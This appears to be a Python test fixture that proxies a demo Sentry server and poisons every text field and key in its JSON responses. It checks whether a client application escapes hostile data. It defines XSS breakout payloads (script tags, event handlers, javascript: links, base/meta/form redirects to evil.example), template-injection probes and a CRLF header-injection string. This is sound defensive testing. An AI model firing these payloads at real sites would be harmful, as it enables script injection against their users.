"""A Sentry whose every text is an attack: it stands before the demo and rewrites its answers."""

import json
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import requests

from apps.demo.server import DemoSentry
from tests.servers import in_background

RUNS = "window.__pwned=1"
BREAKOUT = (
    f"'\"></textarea></title></style></template></svg></script><script>{RUNS}</script>"
    f"<img src=x onerror={RUNS}><svg onload={RUNS}><details open ontoggle={RUNS}>"
    f"<iframe srcdoc='<script>parent.{RUNS}</script>'></iframe>"
    f"<a href=javascript:{RUNS} style=position:fixed>x</a><base href=//evil.example>"
    "<meta http-equiv=refresh content=0;url=//evil.example><form action=//evil.example>"
    "{{7*7}}{%debug%}${7*7}]]>--><!--\u2028</event>```\r\nSet-Cookie: pwned=1"
)
SHORT = f"'\"><img src=x onerror={RUNS}><script>{RUNS}</script>"
ADDRESS = f"javascript:{RUNS}//evil.example/"
# What a row is found, placed or read by: with other values there the event would not be shown.
_BY_IDENTITY = frozenset(
    (
        *("id", "eventID", "event.id", "issue", "issue.id", "groupID", "group_id", "timestamp"),
        *("dateCreated", "dateReceived", "received", "user.id", "user.email", "user.username"),
        *("slug", "project", "project.name", "projectID", "projectSlug", "project_id", "trace"),
        *("trace_id", "replayId", "replay_id", "started_at", "finished_at", "firstSeen"),
        *("lastSeen", "dateReleased", "dateStarted", "dateFinished", "count", "userCount"),
        *("end_timestamp", "nextEventID", "previousEventID", "status", "type", "level"),
        *("platform", "mechanism"),
    )
)
_ADDRESSES = ("url", "link", "href", "permalink", "abs_path", "filename")


def poisoned(value: Any, key: str = "", *, deep: bool) -> Any:
    """The same JSON with an attack in each text and a key that is one in each object.

    `deep` also attacks words that Sentry itself chooses, such as levels, kinds and platforms.
    """
    if isinstance(value, dict):
        attacked = {name: poisoned(inner, name, deep=deep) for name, inner in value.items()}
        return {**attacked, BREAKOUT: BREAKOUT}
    if isinstance(value, list):
        return [poisoned(inner, key, deep=deep) for inner in value]
    if not isinstance(value, str) or not value or _is_kept(key, deep=deep):
        return value
    if any(word in key.lower() for word in _ADDRESSES):
        return f"{ADDRESS}{value}{BREAKOUT}"
    return f"{value}{BREAKOUT}"


def _is_kept(key: str, *, deep: bool) -> bool:
    chosen_by_sentry = key in ("level", "platform", "mechanism", "status")
    return key in _BY_IDENTITY and not (deep and chosen_by_sentry)


class Poisoner(ThreadingHTTPServer):
    """Answers what the demo answers, poisoned; a test may change how."""

    def __init__(self, demo: DemoSentry) -> None:
        super().__init__(("127.0.0.1", 0), _Handler)
        self.demo = demo
        self.deep = self.fails = False


class _Handler(BaseHTTPRequestHandler):
    server: Poisoner

    def do_GET(self) -> None:
        asked = {"Authorization": self.headers["Authorization"] or ""}
        reply = requests.get(f"{self.server.demo.url}{self.path}", headers=asked, timeout=20)
        try:
            told = json.dumps(poisoned(reply.json(), deep=self.server.deep)).encode()
        except ValueError:
            told = reply.content
        if self.server.fails:
            told = json.dumps({"detail": BREAKOUT}).encode()
        self.send_response(400 if self.server.fails else reply.status_code)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(told)))
        if "Link" in reply.headers:
            self.send_header("Link", reply.headers["Link"])
        self.end_headers()
        self.wfile.write(told)

    def log_message(self, *_words: Any) -> None:
        """Say nothing."""


@contextmanager
def poisoning(demo: DemoSentry) -> Iterator[Poisoner]:
    """Serve the demo's answers, poisoned."""
    server = Poisoner(demo)
    in_background(server)
    try:
        yield server
    finally:
        server.shutdown()
        server.server_close()
